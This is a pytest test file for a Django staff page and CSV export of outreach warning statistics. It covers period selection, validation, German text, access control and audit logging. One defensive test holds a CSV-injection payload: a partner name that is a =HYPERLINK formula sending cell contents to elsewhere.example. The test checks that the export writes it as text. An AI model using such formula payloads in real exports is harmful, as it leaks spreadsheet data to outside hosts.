"""The reach results for a chosen period, on the page and as a CSV download."""

from __future__ import annotations

import csv
import datetime
import html
import io
import re

import pytest
from django.utils import timezone
from django.utils.formats import date_format

from forestall.audit.models import AuditEntry
from forestall.reach import actions, results
from forestall.reach.models import ClickThroughCount
from forestall.stats.actions import record
from forestall.stats.events import Event
from forestall.stats.models import Source
from tests.factories_reach import DETERRENT_ID, THERAPEUTIC_ID, make_partner, shipped_variant

pytestmark = pytest.mark.django_db

PAGE = "/staff/reach/results/"
CSV = "/staff/reach/results/csv/"


def _days_ago(days: int) -> datetime.date:
    return timezone.localdate() - datetime.timedelta(days=days)


def _show(partner, day, deterrent=(1000, 87), therapeutic=(1000, 157)):
    """Warnings shown and landings for the two shipped variants on ``day``."""
    actions.replace_impressions(
        partner,
        day,
        [
            (shipped_variant(DETERRENT_ID), "en", deterrent[0]),
            (shipped_variant(THERAPEUTIC_ID), "en", therapeutic[0]),
        ],
    )
    for variant_id, (_shown, landed) in ((DETERRENT_ID, deterrent), (THERAPEUTIC_ID, therapeutic)):
        ClickThroughCount.objects.create(
            partner=partner, variant_id=variant_id, day=day, language="en", count=landed
        )


def _without_csrf_token(content: bytes) -> bytes:
    return re.sub(rb'name="csrfmiddlewaretoken" value="[^"]+"', b"", content)


def _shown(day: datetime.date) -> str:
    """A day as the English staff pages print it."""
    return date_format(day, "SHORT_DATE_FORMAT")


def csv_rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = response.content.decode()
    assert body.startswith("\ufeff")  # the byte order mark: Excel reads the file as UTF-8
    return list(csv.DictReader(io.StringIO(body.removeprefix("\ufeff"))))


def page_tables(page: str) -> dict[str, list[list[str]]]:
    """Each table of the page under its heading: the text of every body row's cells."""
    found = {}
    for heading, table in re.findall(r"<h[23]>(.*?)</h[23]>.*?<table>(.*?)</table>", page, re.S):
        body = table[table.index("<tbody>") :]
        found[html.unescape(heading)] = [
            [
                html.unescape(re.sub(r"<[^>]+>", "", cell))
                for cell in re.findall(r"<td[^>]*>(.*?)</td>", tr, re.S)
            ]
            for tr in re.findall(r"<tr>(.*?)</tr>", body, re.S)
        ]
    return found


# --- The period -------------------------------------------------------------


def test_the_page_offers_the_periods_and_a_download_of_what_it_shows(sign_in, analyst):
    page = sign_in(analyst).get(PAGE).content.decode()
    assert '<form method="get"' in page
    options = re.findall(r'<option value="(\d+)"( selected)?>', page)
    assert [value for value, _selected in options] == ["30", "90", "365"]
    assert '<input type="date" name="start"' in page and '<input type="date" name="end"' in page
    first, last = _days_ago(89), timezone.localdate()
    assert f'href="{CSV}" download' in page
    assert f"From {_shown(first)} to {_shown(last)}" in page
    assert '<option value="90" selected>' in page


def test_the_last_30_days_count_only_those_days(sign_in, network_admin):
    partner = make_partner("ahmia", name="Ahmia")
    _show(partner, _days_ago(3), deterrent=(100, 7), therapeutic=(100, 9))
    _show(partner, _days_ago(60), deterrent=(1000, 87), therapeutic=(1000, 157))
    client = sign_in(network_admin)

    recent = page_tables(client.get(f"{PAGE}?days=30").content.decode())
    both = page_tables(client.get(PAGE).content.decode())  # the last 90 days

    assert [row[:4] for row in recent["By partner and variant"]] == [
        ["Ahmia", "deterrent", "100", "7"],
        ["Ahmia", "therapeutic", "100", "9"],
    ]
    assert [row[:4] for row in both["By partner and variant"]] == [
        ["Ahmia", "deterrent", "1,100", "94"],
        ["Ahmia", "therapeutic", "1,100", "166"],
    ]
    page = client.get(f"{PAGE}?days=30&utm_source=mail&q=secret").content.decode()
    assert '<option value="30" selected>' in page
    # The download carries the period, and nothing else the address had.
    assert f'href="{CSV}?days=30" download' in page


def test_a_first_and_a_last_day_choose_the_period_and_the_file(sign_in, analyst):
    partner = make_partner("ahmia", name="Ahmia")
    _show(partner, datetime.date(2025, 2, 10), deterrent=(500, 5), therapeutic=(400, 4))
    _show(partner, datetime.date(2025, 4, 10))
    client = sign_in(analyst)
    query = "start=2025-02-01&end=2025-02-28"

    page = client.get(f"{PAGE}?{query}").content.decode()
    assert "From 1 Feb 2025 to 28 Feb 2025" in page
    assert [row[:4] for row in page_tables(page)["By partner and variant"]] == [
        ["Ahmia", "deterrent", "500", "5"],
        ["Ahmia", "therapeutic", "400", "4"],
    ]
    assert f'href="{CSV}?{query.replace("&", "&amp;")}" download' in page

    response = client.get(f"{CSV}?{query}")
    assert response["Content-Disposition"] == (
        'attachment; filename="forestall-reach-results-2025-02-01-2025-02-28.csv"'
    )
    data = csv_rows(response)
    assert {(row["period_start"], row["period_end"]) for row in data} == {
        ("2025-02-01", "2025-02-28")
    }
    assert {row["month"] for row in data if row["month"]} == {"2025-02"}


BAD_PERIODS = [
    ("days=7", "Select a valid choice"),
    ("days=lots", "Select a valid choice"),
    ("start=2025-02-01", "Give both the first and the last day, or neither."),
    ("end=2025-02-01", "Give both the first and the last day, or neither."),
    ("start=2025-03-01&end=2025-02-01", "The period ends before it starts."),
    ("start=2010-01-01&end=2025-01-01", "A period can be at most ten years long."),
    ("start=yesterday&end=2025-01-01", "Enter a valid date."),
    ("start=0001-01-01&end=0001-01-05", "Choose a day between 1900 and 2999."),
    ("start=9999-12-01&end=9999-12-31", "Choose a day between 1900 and 2999."),
    ("start=2025-02-31&end=2025-03-01", "Enter a valid date."),
]


@pytest.mark.parametrize(("query", "message"), BAD_PERIODS)
def test_a_bad_period_is_a_clear_400_that_keeps_what_was_typed(sign_in, analyst, query, message):
    client = sign_in(analyst)
    for url in (PAGE, CSV):
        response = client.get(f"{url}?{query}")
        assert response.status_code == 400
        assert response["Content-Type"].startswith("text/html")
        page = response.content.decode()
        assert message in html.unescape(page)
        assert "so the last 90 days are shown" in page
        assert f"From {_shown(_days_ago(89))} to" in page
        for name, value in re.findall(r"(start|end)=([^&]*)", query):
            assert f'name="{name}" value="{value}"' in page
        # The download offered beside the message is the period shown, not the refused one.
        assert f'href="{CSV}" download' in page
    assert not AuditEntry.objects.filter(action="reach.results.export").exists()


def test_the_period_form_and_its_messages_are_german_for_german_staff(sign_in, analyst):
    analyst.language = "de"
    analyst.save(update_fields=["language"])
    client = sign_in(analyst)
    page = client.get(PAGE).content.decode()
    assert re.search(r">Zeitraum:?</label>", page)
    assert "die letzten 30 Tage" in page
    assert "Diese Zahlen herunterladen (CSV," in page
    refused = client.get(f"{PAGE}?start=2025-03-01&end=2025-02-01")
    assert refused.status_code == 400
    text = refused.content.decode()
    assert "Der Zeitraum endet, bevor er beginnt." in text
    assert "deshalb werden die letzten 90 Tage gezeigt" in text
    header = client.get(CSV).content.decode("utf-8-sig").splitlines()[0]
    assert header == "period_start,period_end,table,partner,variant,month,column,value"


# --- The file: exactly the page's figures ----------------------------------


def _page_figures_from_csv(data: list[dict[str, str]]) -> dict[str, list[list[str]]]:
    """The page's tables, rebuilt from the CSV as the page would print them."""

    def grouped(value: str) -> str:
        return f"{int(value):,}"

    def rate(cells: dict[str, str]) -> str:
        if not cells["Click-through rate (percent)"]:
            return "—"
        return (
            f"{cells['Click-through rate (percent)']}% "
            f"({cells['95 percent interval, lower bound (percent)']}"
            f"\u2013{cells['95 percent interval, upper bound (percent)']}%)"
        )

    def by(table: str, key) -> dict[tuple, dict[str, str]]:
        found: dict[tuple, dict[str, str]] = {}
        for row in data:
            if row["table"] == table:
                found.setdefault(key(row), {})[row["column"]] = row["value"]
        return found

    partners = by("By partner and variant", lambda r: (r["partner"], r["variant"]))
    variants = by("By variant, all partners", lambda r: (r["variant"],))
    differences = by("Differences between variants", lambda r: (r["variant"],))
    months = by(
        "What followed, by month (people who arrived through reach)", lambda r: (r["month"],)
    )
    return {
        "By partner and variant": [
            [*key, grouped(c["Impressions"]), grouped(c["Click-throughs"]), rate(c)]
            for key, c in partners.items()
        ],
        "By variant, all partners": [
            [*key, grouped(c["Impressions"]), grouped(c["Click-throughs"]), rate(c)]
            for key, c in variants.items()
        ],
        "Differences between variants": [
            [
                *key,
                c["Compared with"],
                f"{c['Difference (percentage points)']} "
                f"({c['95 percent interval, lower bound (percentage points)']} to "
                f"{c['95 percent interval, upper bound (percentage points)']})",
            ]
            for key, c in differences.items()
        ],
        "months": [[month, *(grouped(v) for v in c.values())] for (month,), c in months.items()],
    }


def test_the_file_holds_exactly_the_figures_the_page_shows(sign_in, analyst):
    ahmia = make_partner("ahmia", name="Ahmia")
    forum = make_partner("forum", name="Forum")
    _show(ahmia, _days_ago(2), deterrent=(12345, 1074), therapeutic=(1000, 157))
    _show(forum, _days_ago(40), deterrent=(3, 1), therapeutic=(0, 2))  # small, and no impressions
    ClickThroughCount.objects.create(
        partner=None, variant=None, day=_days_ago(5), language="de", count=4
    )
    record(Event.CONTACT, day=_days_ago(40), source=Source.REACH)  # a single first message
    record(Event.MAILBOX_STARTED, day=_days_ago(2), count=2, source=Source.REACH)
    client = sign_in(analyst)

    page = client.get(PAGE).content.decode()
    data = csv_rows(client.get(CSV))

    shown = page_tables(page)
    rebuilt = _page_figures_from_csv(data)
    assert len(shown["By partner and variant"]) == 5  # the unknown landing included
    for table in (
        "By partner and variant",
        "By variant, all partners",
        "Differences between variants",
    ):
        assert rebuilt[table] == shown[table], table
    [funnel] = [rows for heading, rows in shown.items() if heading.startswith("What followed")]
    # The page names months ("November 2026"); the file gives them as 2026-11.
    assert [row[1:] for row in rebuilt["months"]] == [row[1:] for row in funnel]
    assert [row[0] for row in rebuilt["months"]] == sorted(
        {
            _days_ago(40).strftime("%Y-%m"),
            _days_ago(2).strftime("%Y-%m"),
            _days_ago(5).strftime("%Y-%m"),
        }
    )
    # Nothing small is withheld on the page, so nothing is in the file either: the single
    # first message and the forum's 3 warnings are there, as on the page.
    assert any(row["column"] == "First messages" and row["value"] == "1" for row in data)
    assert {"partner": "Forum", "column": "Impressions", "value": "3"}.items() <= next(
        row for row in data if row["partner"] == "Forum" and row["column"] == "Impressions"
    ).items()


def test_numbers_in_the_file_are_plain_and_a_negative_difference_stays_a_number(sign_in, analyst):
    _show(
        make_partner("ahmia", name="Ahmia"),
        _days_ago(2),
        deterrent=(2000, 87),
        therapeutic=(1000, 157),
    )
    data = csv_rows(sign_in(analyst).get(CSV))
    impressions = {
        row["variant"]: row["value"]
        for row in data
        if row["table"] == "By partner and variant" and row["column"] == "Impressions"
    }
    assert impressions == {"deterrent": "2000", "therapeutic": "1000"}  # no grouping
    [difference] = [
        row["value"] for row in data if row["column"] == "Difference (percentage points)"
    ]
    # Therapeutic (15.70%) against the variant shown most, deterrent (4.35%): positive.
    estimate, _lower, _upper = results.difference(157, 1000, 87, 2000)
    assert difference == f"{100 * estimate:.2f}"
    # Now deterrent is shown most and does better: therapeutic's difference is negative.
    _show(
        make_partner("forum", name="Forum"),
        _days_ago(3),
        deterrent=(5000, 2000),
        therapeutic=(10, 0),
    )
    data = csv_rows(sign_in(analyst).get(CSV))
    [difference] = [
        row["value"] for row in data if row["column"] == "Difference (percentage points)"
    ]
    assert difference.startswith("-") and float(difference) < 0  # no quote before it
    assert not any(row["value"].startswith("'") for row in data)


def test_a_partner_named_as_a_formula_is_written_as_text(sign_in, network_admin):
    """Attack: a partner's name is a spreadsheet formula that sends other cells elsewhere."""
    partner = make_partner("evil", name='=HYPERLINK("https://elsewhere.example/?"&A2,"ok")')
    _show(partner, _days_ago(2))
    data = csv_rows(sign_in(network_admin).get(CSV))
    assert {row["partner"] for row in data if row["partner"]} == {
        '\'=HYPERLINK("https://elsewhere.example/?"&A2,"ok")'
    }


def test_an_empty_period_gives_a_file_with_only_its_header(sign_in, analyst):
    response = sign_in(analyst).get(f"{CSV}?days=30")
    assert csv_rows(response) == []
    assert response.content.decode().startswith("\ufeffperiod_start,period_end,table,")


# --- Who may, and the record of it ------------------------------------------


@pytest.mark.parametrize("persona", ["network_admin", "analyst"])
def test_network_admins_and_analysts_download_the_results(request, sign_in, persona):
    assert sign_in(request.getfixturevalue(persona)).get(CSV).status_code == 200


@pytest.mark.parametrize(
    "persona", ["clinician_a", "manager_a", "counsellor_a", "safeguarding_lead_a", "outsider"]
)
def test_everyone_else_gets_the_same_404_as_for_an_address_that_does_not_exist(
    request, sign_in, persona
):
    client = sign_in(request.getfixturevalue(persona))
    missing = client.get("/staff/reach/results/nothing-here/")
    for url in (CSV, f"{CSV}?days=30", f"{CSV}?days=7"):
        response = client.get(url)
        assert response.status_code == 404
        assert _without_csrf_token(response.content) == _without_csrf_token(missing.content)
    assert not AuditEntry.objects.filter(action="reach.results.export").exists()


def test_without_signing_in_the_download_leads_to_the_sign_in(client, db):
    response = client.get(CSV)
    assert response.status_code == 302
    assert response["Location"].startswith("/staff/login/")


def test_each_download_is_audited_with_its_period(sign_in, analyst):
    client = sign_in(analyst)
    client.get(f"{CSV}?start=2025-02-01&end=2025-02-28")
    client.get(f"{CSV}?days=30")
    entries = list(AuditEntry.objects.filter(action="reach.results.export").order_by("sequence"))
    assert [entry.reason for entry in entries] == [
        "2025-02-01..2025-02-28",
        f"{_days_ago(29)}..{timezone.localdate()}",
    ]
    assert all(entry.actor_username == analyst.username for entry in entries)
    # Reading the results is recorded for the file as for the page.
    assert AuditEntry.objects.filter(action="reach.results.read").count() == 2


def test_only_a_read_not_an_export_is_recorded_for_the_page(sign_in, analyst):
    sign_in(analyst).get(f"{PAGE}?days=365")
    assert AuditEntry.objects.filter(action="reach.results.read").count() == 1
    assert not AuditEntry.objects.filter(action="reach.results.export").exists()
